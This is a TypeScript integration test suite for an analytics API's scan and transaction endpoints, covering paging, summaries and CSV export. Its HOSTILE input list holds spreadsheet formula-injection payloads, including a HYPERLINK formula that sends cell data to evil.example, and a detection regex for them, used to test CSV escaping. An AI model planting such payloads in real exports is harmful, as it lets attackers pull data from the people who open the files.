import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import type { Scan } from "../../functions/src/domain/scan/scan.ts";
import type { Transaction } from "../../functions/src/domain/transaction/transaction.ts";
import { assertProblem, type Client, createClient } from "../support/client.ts";
import { newScan, newTransaction, store } from "../support/rows.ts";
import { baseUrl } from "../support/suite.ts";
import { type Deps, newTenant, openDeps, type Tenant } from "../support/tenant.ts";

const HOUR = 60 * 60_000;

/** The order of every list. */
const inOrder = <T extends { id: string; created_at: Date }>(rows: readonly T[]): T[] =>
  rows.toSorted((a, b) => Number(b.created_at) - Number(a.created_at) || (a.id < b.id ? -1 : 1));
const idsOf = (rows: readonly { id: string }[]): string[] => rows.map(({ id }) => id);
const scanToWire = ({ pad_score: _, ...scan }: Scan) => ({
  ...scan,
  created_at: scan.created_at.toISOString(),
});
const transactionToWire = (transaction: Transaction) => ({
  ...transaction,
  created_at: transaction.created_at.toISOString(),
});

describe("Analytics", () => {
  let deps: Deps;
  let api: Client;
  let tenant: Tenant;
  let project_id: string;
  const get = (what: string, token = tenant.key) =>
    api("GET", `/v1/project/${project_id}/${what}`, { token });

  before(async () => {
    deps = await openDeps();
    api = createClient(baseUrl());
  });
  beforeEach(async () => {
    tenant = await newTenant(deps);
    project_id = tenant.project.id;
  });

  describe("GET /v1/project/{project_id}/scans", () => {
    it("answers whole scans of the last 24 hours, newest first, to admin and key", async () => {
      const ago = (ms: number) => new Date(Date.now() - ms);
      const scans = [
        newScan({ project_id, created_at: ago(24 * HOUR - 60_000) }),
        newScan({ project_id, outcome: "no_match", member_id: null, score: null, created_at: ago(HOUR) }),
        newScan({
          project_id,
          ...{ source: "api", device_id: null, operation: "verify", outcome: "match", member_id: null },
          ...{ score: 0.9, pad_score: null, created_at: ago(2 * HOUR) },
        }),
        newScan({ project_id, operation: "enroll", outcome: "enrolled", member_id: null, score: null }),
      ];
      await store(deps, deps.scans, [
        ...scans,
        newScan({ project_id, created_at: ago(24 * HOUR + 60_000) }),
        newScan({ project_id, created_at: ago(-HOUR) }),
        newScan({ project_id: randomUUID(), created_at: ago(HOUR) }),
      ]);
      for (const token of [tenant.key, tenant.user.token]) {
        const answer = await get("scans", token);
        assert.deepEqual(
          [answer.status, answer.body],
          [
            200,
            {
              items: inOrder(scans).map(scanToWire),
              page: 1,
              per_page: 50,
              total_count: 4,
              next_cursor: null,
            },
          ],
        );
      }
    });

    it("takes a range with its start and without its end", async () => {
      const at = (ms: number) => new Date(Date.UTC(2026, 0, 10) + ms);
      const scans = [-1, 0, 1, 999, 1000, 1001].map((ms) => newScan({ project_id, created_at: at(ms) }));
      await store(deps, deps.scans, scans);
      const { body } = await get("scans?from=2026-01-10T01:00:00%2B01:00&to=2026-01-10T00:00:01Z");
      assert.deepEqual([idsOf(body.items), body.total_count], [idsOf(inOrder(scans.slice(1, 4))), 3]);
    });

    for (const [query, where] of [
      ["from=2026-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "from"],
      ["from=2025-01-01T00:00:00Z&to=2026-01-02T00:00:00.001Z", "from"],
      ["from=yesterday", "from"],
      ["to=2026-01-01", "to"],
      ["from=2026-01-01T00:00:00%2B0100", "from"],
      ["per_page=10001", "per_page"],
      ["page=2001&per_page=50", "page"],
      ["page=11&per_page=10000", "page"],
      ["cursor=bm9uZQ", "cursor"],
      ["outcome=identified", "outcome"],
    ] as const) {
      it(`refuses ${query} at ${where}`, async () => {
        const answer = await get(`scans?${query}`);
        assertProblem(answer, 400, "invalid_request");
        assert.deepEqual(
          answer.body.errors.map(({ path }: { path: string }) => path),
          [where],
        );
        if (query.startsWith("page=")) assert.match(answer.body.errors[0].message, /cursor/);
      });
    }
  });

  describe("GET /v1/project/{project_id}/scans/summary", () => {
    it("counts identifications hour by hour, those at terminals too, and nothing else", async () => {
      const at = (time: string) => ({ project_id, created_at: new Date(`2026-01-10T${time}Z`) });
      const nobody = { outcome: "no_match", member_id: null, score: null } as const;
      await store(deps, deps.scans, [
        newScan(at("10:29:59.999")),
        newScan(at("10:30:00.000")),
        newScan({ ...at("10:59:59.999"), source: "api", device_id: null }),
        newScan({ ...at("10:59:59.999"), ...nobody }),
        newScan({ ...at("12:00:00.000"), ...nobody }),
        newScan({ ...at("12:00:00.000"), ...nobody, operation: "verify" }),
        newScan({ ...at("12:00:00.000"), ...nobody, operation: "verify", outcome: "match" }),
        newScan({ ...at("12:00:00.000"), ...nobody, operation: "enroll", outcome: "enrolled" }),
        newScan({ ...at("12:00:00.000"), project_id: randomUUID() }),
        newScan(at("12:15:00.000")),
      ]);
      for (const token of [tenant.key, tenant.user.token]) {
        const answer = await get(
          "scans/summary?bucket=hour&from=2026-01-10T10:30:00Z&to=2026-01-10T12:15:00Z",
          token,
        );
        assert.deepEqual(
          [answer.status, answer.body],
          [
            200,
            {
              bucket: "hour",
              from: "2026-01-10T10:30:00.000Z",
              to: "2026-01-10T12:15:00.000Z",
              buckets: [
                { start: "2026-01-10T10:00:00.000Z", identified: 2, no_match: 1, total: 3 },
                { start: "2026-01-10T11:00:00.000Z", identified: 0, no_match: 0, total: 0 },
                { start: "2026-01-10T12:00:00.000Z", identified: 0, no_match: 1, total: 1 },
              ],
            },
          ],
        );
      }
    });

    it("counts day by day, up to 31, the last 24 hours unless told", async () => {
      await store(deps, deps.scans, [newScan({ project_id, created_at: new Date(Date.now() - 60_000) })]);
      const day = (await get("scans/summary?bucket=day")).body;
      assert.equal(Date.parse(day.to) - Date.parse(day.from), 24 * HOUR);
      assert.ok(day.buckets.length <= 2 && day.buckets[0].start <= day.from);
      assert.equal(
        day.buckets.reduce((sum: number, { total }: { total: number }) => sum + total, 0),
        1,
      );
      const month = await get("scans/summary?bucket=day&from=2026-01-01T12:00:00Z&to=2026-02-01T12:00:00Z");
      assert.equal(month.body.buckets?.length, 32, month.text);
      const hours = await get("scans/summary?bucket=hour&from=2026-01-01T00:30:00Z&to=2026-01-03T00:30:00Z");
      assert.equal(hours.body.buckets?.length, 49, hours.text);
    });

    it("counts by the days and hours of a zone, daylight saving time included", async () => {
      const at = (time: string) => newScan({ project_id, created_at: new Date(time) });
      await store(deps, deps.scans, [
        at("2026-03-28T22:59:59.999Z"),
        at("2026-03-28T23:00:00.000Z"),
        at("2026-03-29T21:59:59.999Z"),
        at("2026-03-29T22:00:00.000Z"),
      ]);
      const days = await get(
        "scans/summary?bucket=day&time_zone=Europe/Berlin&from=2026-03-28T12:00:00Z&to=2026-03-30T12:00:00Z",
      );
      const counted = (start: string, total: number) => ({ start, identified: total, no_match: 0, total });
      assert.deepEqual(days.body, {
        bucket: "day",
        from: "2026-03-28T12:00:00.000Z",
        to: "2026-03-30T12:00:00.000Z",
        buckets: [
          counted("2026-03-27T23:00:00.000Z", 1),
          counted("2026-03-28T23:00:00.000Z", 2),
          counted("2026-03-29T22:00:00.000Z", 1),
        ],
      });
      const hours = await get(
        "scans/summary?bucket=hour&time_zone=Asia/Kolkata&from=2026-03-28T22:00:00Z&to=2026-03-29T00:00:00Z",
      );
      assert.deepEqual(hours.body.buckets, [
        counted("2026-03-28T21:30:00.000Z", 0),
        counted("2026-03-28T22:30:00.000Z", 2),
        counted("2026-03-28T23:30:00.000Z", 0),
      ]);
      const utc = "scans/summary?bucket=day&from=2026-03-28T12:00:00Z&to=2026-03-30T12:00:00Z";
      assert.deepEqual((await get(`${utc}&time_zone=UTC`)).body, (await get(utc)).body);
    });

    for (const [query, where] of [
      ["", "bucket"],
      ["bucket=day&time_zone=Mars/Olympus", "time_zone"],
      ["bucket=day&time_zone=%2B01:00", "time_zone"],
      ["bucket=day&time_zone=", "time_zone"],
      ["bucket=week", "bucket"],
      ["bucket=day&from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00.001Z", "from"],
      ["bucket=hour&from=2026-01-01T00:00:00Z&to=2026-01-03T00:00:00.001Z", "from"],
      ["bucket=hour&from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "from"],
      ["bucket=hour&per_page=10", "per_page"],
    ] as const) {
      it(`refuses ${query || "no bucket"} at ${where}`, async () => {
        const answer = await get(`scans/summary?${query}`);
        assertProblem(answer, 400, "invalid_request");
        assert.equal(answer.body.errors[0].path, where);
      });
    }
  });

  describe("Transactions", () => {
    /** What a till may send, and what nobody should. */
    const HOSTILE = [
      null,
      "Lunch",
      "=1+1",
      '=HYPERLINK("https://evil.example?x="&A1,"click")',
      "+49 151 1234",
      "-5",
      "@SUM(A1:A9)",
      "\t=1",
      " =1+1",
      "\u200b\u00a0@SUM(A1)",
      "＝1+1",
      " ＋1",
      "\r=1",
      "a,b;c",
      'say "hi"',
      "two\nlines",
      "two\r\nlines",
      "'quoted",
      " spaces ",
      "Kaffee ☕️ 🧑🏽‍🍳",
      "مطعم الغداء",
      "\u202Eevil",
      "ﷺ".repeat(200),
      "null",
      '"',
      ",",
    ];
    const FORMULA = /^(?:[\p{White_Space}\p{Cf}]*[=+\-@＝＋－＠]|[\t\r])/u;
    let rows: Transaction[];
    beforeEach(async () => {
      const end = Date.now() - 60_000;
      rows = HOSTILE.map((reference, n) =>
        newTransaction({
          project_id,
          reference,
          created_at: new Date(end - Math.floor(n / 4) * 1000),
          amount_minor: n === 3 ? 999_999_999_999 : n + 1,
          ...(n % 5 === 0 ? { status: "declined", member_id: null } : {}),
        }),
      );
      await store(deps, deps.transactions, [
        ...rows,
        newTransaction({ project_id, created_at: new Date(end - 24 * HOUR) }),
        newTransaction({ project_id: randomUUID(), created_at: new Date(end) }),
      ]);
    });

    it("come as an array, or in pages", async () => {
      const wanted = inOrder(rows).map(transactionToWire);
      for (const token of [tenant.key, tenant.user.token]) {
        assert.deepEqual((await get("transactions", token)).body, wanted);
      }
      const first = (await get("transactions?per_page=10")).body;
      assert.deepEqual(first, {
        items: wanted.slice(0, 10),
        page: 1,
        per_page: 10,
        total_count: wanted.length,
        next_cursor: first.next_cursor,
      });
      const second = (await get(`transactions?per_page=10&cursor=${first.next_cursor}`)).body;
      assert.deepEqual(second.items, wanted.slice(10, 20));
      assert.deepEqual((await get("transactions?page=3&per_page=10")).body.items, wanted.slice(20));
      const { created_at: from } = wanted[7] as { created_at: string };
      const since = (await get(`transactions?from=${from}`)).body;
      assert.deepEqual(since, wanted.slice(0, 8));
      assert.deepEqual((await get("transactions?to=2026-01-01T00:00:00Z")).body, []);
    });

    it("come as CSV that is the same as JSON, field by field", async () => {
      const range = `from=${new Date(Date.now() - HOUR).toISOString()}&to=${new Date().toISOString()}`;
      const json = (await get(`transactions?${range}`)).body as Record<string, unknown>[];
      const csv = await get(`transactions/csv?${range}`);
      assert.equal(csv.status, 200);
      assert.equal(csv.headers.get("content-type"), "text/csv; charset=utf-8");
      assert.ok(csv.text.endsWith("\r\n") && !csv.text.endsWith("\r\n\r\n"));
      const records = parse(csv.text, { columns: true, record_delimiter: "\r\n", bom: false });
      const asText = (value: unknown) =>
        value === null ? "" : typeof value === "string" && FORMULA.test(value) ? `'${value}` : String(value);
      assert.equal(json.length, HOSTILE.length);
      assert.deepEqual(
        records,
        json.map((row) =>
          Object.fromEntries(Object.entries(row).map(([key, value]) => [key, asText(value)])),
        ),
      );
      const columns =
        "id,project_id,device_id,member_id,scan_id,status,amount_minor,currency,reference,created_at";
      assert.equal(csv.text.slice(0, csv.text.indexOf("\r\n")), columns);
    });

    it("come as a file named by its range, which HEAD names too", async () => {
      const range = "from=2026-01-02T03:04:05.678%2B01:00&to=2026-02-01T00:00:00Z";
      const csv = await get(`transactions/csv?${range}`);
      const name = 'attachment; filename="transactions_20260102T020405Z_20260201T000000Z.csv"';
      assert.equal(csv.headers.get("content-disposition"), name);
      assert.equal(csv.text.split("\r\n").length, 2, "a header row alone");
      const head = await api("HEAD", `/v1/project/${project_id}/transactions/csv?${range}`, {
        token: tenant.user.token,
      });
      assert.deepEqual(
        [head.status, head.text, head.headers.get("content-disposition"), head.headers.get("content-type")],
        [200, "", name, "text/csv; charset=utf-8"],
      );
    });

    for (const [what, where] of [
      ["transactions?per_page=10001", "per_page"],
      ["transactions?page=11&per_page=10000", "page"],
      ["transactions?from=2026-01-01", "from"],
      ["transactions?format=csv", "format"],
      ["transactions/csv?per_page=10", "per_page"],
      ["transactions/csv?from=2025-01-01T00:00:00Z&to=2026-01-03T00:00:00Z", "from"],
    ] as const) {
      it(`refuses ${what} at ${where}, as a problem`, async () => {
        const answer = await get(what);
        assertProblem(answer, 400, "invalid_request");
        assert.equal(answer.body.errors[0].path, where);
      });
    }
  });

  // Last: the emulator counts by looking at every scan of everybody, which these make slow.
  describe("Pages and cursors", () => {
    it("give each of 12,000 scans of one moment exactly once, while new ones come in", async () => {
      const created_at = new Date(Date.now() - HOUR);
      const scans = Array.from({ length: 12_000 }, () => newScan({ project_id, created_at }));
      await store(deps, deps.scans, scans);
      const wanted = idsOf(inOrder(scans));
      let came = 0;
      const arrive = () =>
        store(deps, deps.scans, [
          newScan({ project_id, created_at: new Date() }),
          newScan({ project_id }),
        ]).then(() => (came += 2));
      const byCursor = async (query: string): Promise<string[]> => {
        const ids: string[] = [];
        let { body } = await get(`scans?per_page=2000&${query}`);
        for (;;) {
          ids.push(...idsOf(body.items));
          if (body.next_cursor === null) return ids;
          await arrive();
          ({ body } = await get(`scans?per_page=2000&${query}&cursor=${body.next_cursor}`));
        }
      };

      const to = `to=${new Date().toISOString()}`;
      const byPage: string[] = [];
      for (let page = 1; page <= 6; page++) {
        await arrive();
        const { body } = await get(`scans?per_page=2000&page=${page}&${to}`);
        assert.equal(body.total_count, 12_000);
        byPage.push(...idsOf(body.items));
      }
      assert.deepEqual(byPage, wanted);
      assert.deepEqual(await byCursor(to), wanted);

      // Without an end the first page says now, and its cursors remember that.
      const before = came;
      const open = await byCursor("");
      assert.ok(came >= before + 10, "none came in");
      assert.equal(open.length, 12_000 + before);
      assert.deepEqual(open.slice(before), wanted);

      const most = (await get(`scans?per_page=10000&${to}`)).body;
      const rest = (await get(`scans?per_page=10000&cursor=${most.next_cursor}`)).body;
      assert.deepEqual([...idsOf(most.items), ...idsOf(rest.items)], wanted);
      assert.equal(rest.next_cursor, null);
    });
  });
});
